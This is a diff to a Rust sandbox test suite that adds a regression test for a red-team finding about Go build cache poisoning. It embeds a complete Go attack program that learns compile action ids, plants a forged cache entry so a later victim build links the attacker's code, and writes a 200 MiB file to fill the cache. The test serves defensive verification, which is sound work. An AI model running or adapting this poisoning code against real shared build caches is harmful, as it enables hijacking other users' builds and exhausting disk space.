@@ -14,6 +14,8 @@ use std::process::{Command, Stdio};
 
 use serde_json::Value;
 
+mod common;
+
 const ROOTLESS_USER: &str = "nanotest";
 
 fn is_root() -> bool {
@@ -301,6 +303,210 @@ fn containment_suite_can_fail_without_a_sandbox() {
         assert_eq!(
             r["verdict"], "ESCAPED",
             "{name} should escape without a sandbox: {r}"
+        );
+    }
+}
+
+// ------------------------------------------------- Go build cache poisoning
+
+/// The victim's program, compiled with `--lang go`.
+const GO_VICTIM: &str =
+    "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"victim ok\") }\n";
+
+/// The attacker's `--lang go` snippet. In every build cache it can reach
+/// (`$GOCACHE`, the shared mount) it writes a 200 MiB file (removed again
+/// if it does not fit, so the rest of the attack can run), counts the
+/// existing entries it can open for writing, and plants a poisoned entry.
+/// Go's action ids do not depend on the cache, so it compiles the victim's
+/// program (same source, same path, same environment) and one of its own
+/// in a scratch cache to learn their entries, then writes into the target
+/// cache its own compiled package and the victim's compile entry pointing
+/// at it. A later build of the victim's program that reads that cache
+/// links the attacker's code.
+const GO_ATTACK: &str = r#"package main
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+const victim = "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"victim ok\") }\n"
+const evil = "package main\nimport \"fmt\"\nfunc main() { fmt.Println(\"PWNED by the attacker\") }\n"
+
+// learn compiles code at the victim's path with a fresh cache and returns
+// the compile action's entry (relative path, fields) and its output.
+func learn(code string) (string, []string, []byte) {
+	scratch, _ := os.MkdirTemp("/tmp", "scratch")
+	defer os.RemoveAll(scratch)
+	os.WriteFile("/tmp/nanoclaw-go/main.go", []byte(code), 0o644)
+	cmd := exec.Command("go", "build", "-o", "/tmp/nanoclaw-go/other", "main.go")
+	cmd.Dir = "/tmp/nanoclaw-go"
+	cmd.Env = append(os.Environ(), "GOCACHE="+scratch)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		fmt.Println("build failed:", err, string(out))
+	}
+	rel, fields, output := "", []string(nil), []byte(nil)
+	filepath.Walk(scratch, func(p string, fi os.FileInfo, err error) error {
+		if err != nil || !strings.HasSuffix(p, "-a") {
+			return nil
+		}
+		b, _ := os.ReadFile(p)
+		f := strings.Fields(string(b))
+		if len(f) < 5 || len(f[2]) < 2 {
+			return nil
+		}
+		d, _ := os.ReadFile(filepath.Join(scratch, f[2][:2], f[2]+"-d"))
+		if bytes.HasPrefix(d, []byte("!<arch>\n")) {
+			rel, _ = filepath.Rel(scratch, p)
+			fields, output = f, d
+		}
+		return nil
+	})
+	return rel, fields, output
+}
+
+func main() {
+	vrel, vf, _ := learn(victim)
+	_, ef, eout := learn(evil)
+	if vf == nil || ef == nil {
+		fmt.Println("could not learn the compile entries")
+		return
+	}
+	seen := map[string]bool{}
+	for _, c := range []string{os.Getenv("GOCACHE"), "/nanoclaw/gocache"} {
+		if c == "" || seen[c] {
+			continue
+		}
+		seen[c] = true
+		if fi, err := os.Stat(c); err != nil || !fi.IsDir() {
+			fmt.Println("no cache at", c)
+			continue
+		}
+		big := filepath.Join(c, "big")
+		if f, err := os.Create(big); err != nil {
+			fmt.Println("cannot create a file in", c, err)
+		} else {
+			buf := make([]byte, 1<<20)
+			n := 0
+			var werr error
+			for ; n < 200; n++ {
+				if _, werr = f.Write(buf); werr != nil {
+					break
+				}
+			}
+			f.Close()
+			if werr != nil {
+				os.Remove(big)
+			}
+			fmt.Println("wrote", n, "MiB into", c, werr)
+		}
+		writable := 0
+		filepath.Walk(c, func(p string, fi os.FileInfo, err error) error {
+			if err == nil && strings.HasSuffix(p, "-d") {
+				if f, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0); err == nil {
+					writable++
+					f.Close()
+				}
+			}
+			return nil
+		})
+		fmt.Println(writable, "existing entries writable in", c)
+		out := filepath.Join(c, ef[2][:2], ef[2]+"-d")
+		os.MkdirAll(filepath.Dir(out), 0o777)
+		err1 := os.WriteFile(out, eout, 0o644)
+		entry := filepath.Join(c, vrel)
+		os.MkdirAll(filepath.Dir(entry), 0o777)
+		line := fmt.Sprintf("v1 %s %s %20s %20s\n", vf[1], ef[2], ef[3], ef[4])
+		err2 := os.WriteFile(entry, []byte(line), 0o644)
+		fmt.Println("planted into", c, "output:", err1, "entry:", err2)
+	}
+}
+"#;
+
+/// Bytes of the regular files under `dir`.
+fn tree_bytes(dir: &Path) -> u64 {
+    let mut n = 0;
+    for e in fs::read_dir(dir).into_iter().flatten().flatten() {
+        let Ok(md) = fs::symlink_metadata(e.path()) else {
+            continue;
+        };
+        if md.is_dir() {
+            n += tree_bytes(&e.path());
+        } else {
+            n += md.len();
+        }
+    }
+    n
+}
+
+/// Red team finding: every `--lang go` run mounted one host build cache
+/// read-write, shared across agents and sessions, so an attacker's snippet
+/// planted cache entries that a later victim's build linked and ran, and
+/// left 1 GiB on the host past every size limit. Now: the victim runs its
+/// own code, and nothing a sandbox writes grows the host's cache.
+#[test]
+fn go_build_cache_cannot_be_poisoned_or_filled() {
+    if !Path::new("/usr/bin/go").exists() {
+        assert!(
+            std::env::var("NANOCLAW_REQUIRE_GO").map_or(true, |v| v != "1"),
+            "NANOCLAW_REQUIRE_GO=1 but /usr/bin/go is missing (apt-get install golang-go)"
+        );
+        eprintln!("SKIPPED go_build_cache_cannot_be_poisoned_or_filled: no /usr/bin/go (apt-get install golang-go)");
+        return;
+    }
+    for m in common::modes("go build cache poisoning") {
+        // A data dir of its own (the host's cache lives under it), owned by
+        // whoever runs nanoclaw.
+        let data = std::env::temp_dir().join(format!(
+            "nanoclaw-gocache-{}-{}",
+            m.name,
+            std::process::id()
+        ));
+        let _ = fs::remove_dir_all(&data);
+        fs::create_dir_all(&data).expect("data dir");
+        if let Some((uid, gid)) = m.user {
+            std::os::unix::fs::chown(&data, Some(uid), Some(gid)).expect("chown data dir");
+        }
+        let go = |code: &str| {
+            let mut c = common::nc(m, &["run", "--lang", "go", "--code", code]);
+            c.env("NANOCLAW_DATA_DIR", &data);
+            c.output().expect("run nanoclaw")
+        };
+        // The victim first: the cache is ready, its program runs.
+        let o = go(GO_VICTIM);
+        assert_eq!(
+            (common::code(&o), common::text(&o.stdout).as_str()),
+            (0, "victim ok\n"),
+            "[{}] {}",
+            m.name,
+            common::text(&o.stderr)
+        );
+        let before = tree_bytes(&data);
+        let attack = go(GO_ATTACK);
+        let grown = tree_bytes(&data).saturating_sub(before);
+        let o = go(GO_VICTIM);
+        let _ = fs::remove_dir_all(&data);
+        let report = format!(
+            "attacker's run (exit {:?}):\n{}{}",
+            attack.status.code(),
+            common::text(&attack.stdout),
+            common::text(&attack.stderr)
+        );
+        assert_eq!(
+            (common::code(&o), common::text(&o.stdout).as_str()),
+            (0, "victim ok\n"),
+            "[{}] the victim's build ran something else (stderr: {})\n{report}",
+            m.name,
+            common::text(&o.stderr)
+        );
+        assert!(
+            grown < 1 << 20,
+            "[{}] the attacker's run grew the host's cache by {grown} bytes\n{report}",
+            m.name
         );
     }
 }
